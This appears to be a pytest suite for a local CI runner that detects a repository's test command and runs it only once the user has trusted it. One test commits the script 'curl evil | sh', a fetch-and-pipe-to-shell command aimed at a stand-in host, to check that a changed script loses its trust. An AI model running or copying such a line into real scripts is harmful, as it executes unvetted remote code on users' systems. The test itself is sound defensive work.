"""Which command is found, and that nothing of the repository runs without a yes."""

from __future__ import annotations

import stat

import pytest

from opstui.backends.ci.local.clone import without_password
from opstui.backends.ci.local.detect import File, as_argv, detect, label
from opstui.domain.errors import OpstuiError
from opstui.domain.status import Status
from tests.backends.ci.bench import Bench, finished, text

NPM = b'{"scripts": {"test": "jest"}}'


@pytest.mark.parametrize(("files", "argv", "source"), [
    ({".ci/run": File(b"make")}, ("bash", ".ci/run"), ".ci/run"),
    ({".ci/run": File(b"#!/bin/sh\n", True)}, ("./.ci/run",), ".ci/run"),
    ({".ci/run": File(b"#!/bin/sh\n", False)}, ("bash", ".ci/run"), ".ci/run"),
    ({".ci/run": File(b"make"), "noxfile.py": File(b"")}, ("bash", ".ci/run"), ".ci/run"),
    ({"noxfile.py": File(b""), "tox.ini": File(b"")}, ("nox",), "noxfile.py"),
    ({"tox.ini": File(b""), "Makefile": File(b"test:\n")}, ("tox",), "tox.ini"),
    ({"Makefile": File(b"all:\n\ntest: build\n\tpytest\n")}, ("make", "test"), "Makefile"),
    ({"Makefile": File(b"lint test check:\n")}, ("make", "test"), "Makefile"),
    ({"Makefile": File(b"test::\n")}, ("make", "test"), "Makefile"),
    ({"GNUmakefile": File(b"test:\n"), "Makefile": File(b"")}, ("make", "test"), "GNUmakefile"),
    ({"package.json": File(NPM)}, ("npm", "test"), "package.json"),
    ({"Makefile": File(b"all:\n"), "package.json": File(NPM)}, ("npm", "test"), "package.json"),
])
def test_the_first_file_that_names_a_command_wins(
    files: dict[str, File], argv: tuple[str, ...], source: str
) -> None:
    found = detect(files)
    assert found is not None
    assert (found.argv, found.source) == (argv, source)


@pytest.mark.parametrize("files", [
    {},
    {"Makefile": File(b"tests:\n")},
    {"Makefile": File(b"test := 1\n")},
    {"Makefile": File(b"test = 1\n")},
    {"Makefile": File(b"\techo test: x\n")},
    {"Makefile": File(b"# test: x\n")},
    {"GNUmakefile": File(b"all:\n"), "Makefile": File(b"test:\n")},
    {"package.json": File(b"{")},
    {"package.json": File(b"[1]")},
    {"package.json": File(b'{"scripts": {"test": 1}}')},
    {"package.json": File(b'{"scripts": {"test": "echo \\"Error: no test specified\\""}}')},
])
def test_files_that_name_no_command_are_passed_over(files: dict[str, File]) -> None:
    assert detect(files) is None


@pytest.mark.parametrize(("command", "argv"), [
    ("make check", ("make", "check")),
    ("pytest -k 'a or b'", ("pytest", "-k", "a or b")),
    ("sh -c 'a; b'", ("sh", "-c", "a; b")),
    ("make lint && make test", ("sh", "-c", "make lint && make test")),
    ("A=1 make", ("sh", "-c", "A=1 make")),
    ('echo "$HOME"', ("sh", "-c", 'echo "$HOME"')),
    ("pytest tests/*", ("sh", "-c", "pytest tests/*")),
    (("a b", "c"), ("a b", "c")),
])
def test_a_configured_command_gets_a_shell_only_where_it_needs_one(
    command: str | tuple[str, ...], argv: tuple[str, ...]
) -> None:
    assert as_argv(command) == argv


def test_labels_are_short() -> None:
    assert label(("bash", ".ci/run")) == ".ci/run"
    assert label(("./.ci/run",)) == ".ci/run"
    assert label(("sh", "-c", "make a && make b")) == "make a && make b"
    assert len(label(("pytest", "x" * 99))) == 32


@pytest.mark.parametrize(("url", "clean"), [
    ("https://ana:secret@git.example.org:8443/a/b.git", "https://git.example.org:8443/a/b.git"),
    ("https://token@git.example.org/b.git?x=secret", "https://git.example.org/b.git"),
    ("ssh://git:pw@git.example.org:22/b.git", "ssh://git@git.example.org:22/b.git"),
    ("https://[::1]:8080/b", "https://[::1]:8080/b"),
    ("git@git.example.org:a/b.git", "git@git.example.org:a/b.git"),
    ("../b", "../b"),
    ("https://x:y@h:port/", ""),
])
def test_addresses_lose_their_passwords(url: str, clean: str) -> None:
    assert without_password(url) == clean


async def test_a_repository_without_a_command_has_nothing_to_run(bench: Bench) -> None:
    runner = bench.runner()
    assert await runner.command() is None
    with pytest.raises(OpstuiError, match="no command to run is known"):
        await runner.start("main", "main")


async def test_an_empty_repository_has_nothing_to_run(bench: Bench) -> None:
    bench.git("update-ref", "-d", "refs/heads/main")
    assert await bench.runner().command() is None
    configured = await bench.runner("make").command()
    assert configured is not None
    assert configured.trusted


async def test_a_folder_that_is_no_repository_says_so(bench: Bench) -> None:
    runner = type(bench.runner())(bench.root, bench.state, bench.cache, bench.runner()._calls)
    with pytest.raises(OpstuiError, match="not a git repository"):
        await runner.runs(10)


async def test_a_repositorys_command_runs_only_after_a_yes(bench: Bench) -> None:
    bench.commit({".ci/run": "echo from the repository\n"})
    runner = bench.runner()
    command = await runner.command()
    assert command is not None
    assert (command.text, command.source, command.trusted) == ("bash .ci/run", ".ci/run", False)
    assert command.script == "echo from the repository\n"
    with pytest.raises(OpstuiError, match="was not trusted yet"):
        await runner.start("main", "main")
    assert await runner.runs(10) == ()

    await runner.trust(command)

    again = await bench.runner().command()
    assert again is not None
    assert again.trusted
    run = await finished(runner, await runner.start("main", "main"))
    assert run.status is Status.PASSED
    assert "from the repository" in await text(runner, run)
    assert stat.S_IMODE((bench.state / "trust.json").stat().st_mode) == 0o600


async def test_a_changed_script_is_asked_for_again_but_only_where_it_changed(bench: Bench) -> None:
    known = bench.commit({".ci/run": "echo known\n"})
    runner = bench.runner()
    command = await runner.command()
    assert command is not None
    await runner.trust(command)
    changed = bench.commit({".ci/run": "curl evil | sh\n"})

    with pytest.raises(OpstuiError, match="was not trusted yet, or it changed"):
        await runner.start(changed, "main")
    now = await runner.command(changed)
    assert now is not None
    assert not now.trusted
    assert "evil" in now.script
    run = await finished(runner, await runner.start(known, "main"))
    assert run.status is Status.PASSED


async def test_what_lies_uncommitted_in_the_work_tree_plays_no_part(bench: Bench) -> None:
    bench.commit({".ci/run": "echo committed\n"})
    runner = bench.runner()
    (bench.repository / ".ci/run").write_text("echo uncommitted\n")
    command = await runner.command()
    assert command is not None
    assert command.script == "echo committed\n"
    await runner.trust(command)
    run = await finished(runner, await runner.start("main", "main"))
    assert (await text(runner, run)).splitlines()[-1] == "committed"


async def test_a_script_behind_a_link_is_what_is_trusted(bench: Bench) -> None:
    bench.commit({"scripts/ci.sh": "echo one\n", ".ci/other": "x"})
    (bench.repository / ".ci/run").symlink_to("../scripts/ci.sh")
    bench.commit({})
    runner = bench.runner()
    command = await runner.command()
    assert command is not None
    assert command.script == "echo one\n"
    bench.commit({"scripts/ci.sh": "echo two\n"})
    changed = await runner.command()
    assert changed is not None
    assert changed.fingerprint != command.fingerprint


async def test_a_command_of_the_repositorys_settings_is_asked_for_with_its_script(
    bench: Bench,
) -> None:
    bench.commit({"scripts/ci.sh": "echo one\n"})
    runner = bench.runner(repo_command="bash scripts/ci.sh --fast")
    command = await runner.command()
    assert command is not None
    assert (command.source, command.trusted) == (".opstui.toml", False)
    assert command.script == "echo one\n"
    bench.commit({"scripts/ci.sh": "echo two\n"})
    changed = await runner.command()
    assert changed is not None
    assert changed.fingerprint != command.fingerprint


async def test_the_persons_own_command_comes_first_and_is_trusted(bench: Bench) -> None:
    bench.commit({".ci/run": "echo theirs\n"})
    command = await bench.runner("make mine", repo_command="make yours").command()
    assert command is not None
    assert (command.text, command.source, command.trusted) == ("make mine", "your settings", True)


async def test_trust_in_one_repository_is_none_in_another(bench: Bench) -> None:
    bench.commit({".ci/run": "echo same\n"})
    runner = bench.runner()
    command = await runner.command()
    assert command is not None
    await runner.trust(command)
    bench.git("clone", "-q", ".", str(bench.root / "copy"))
    copy = type(runner)(bench.root / "copy", bench.state, bench.cache, runner._calls)
    other = await copy.command()
    assert other is not None
    assert other.fingerprint == command.fingerprint
    assert not other.trusted


async def test_a_command_with_unmatched_quotes_is_an_error_that_names_its_place(
    bench: Bench,
) -> None:
    with pytest.raises(OpstuiError, match=r"CI command can't be read.*your settings"):
        await bench.runner("make 'x").command()


async def test_a_broken_trust_file_is_an_error_not_a_yes(bench: Bench) -> None:
    bench.commit({".ci/run": "true\n"})
    bench.state.mkdir()
    (bench.state / "trust.json").write_text("{")
    with pytest.raises(OpstuiError, match="remove the file to be asked again"):
        await bench.runner().command()
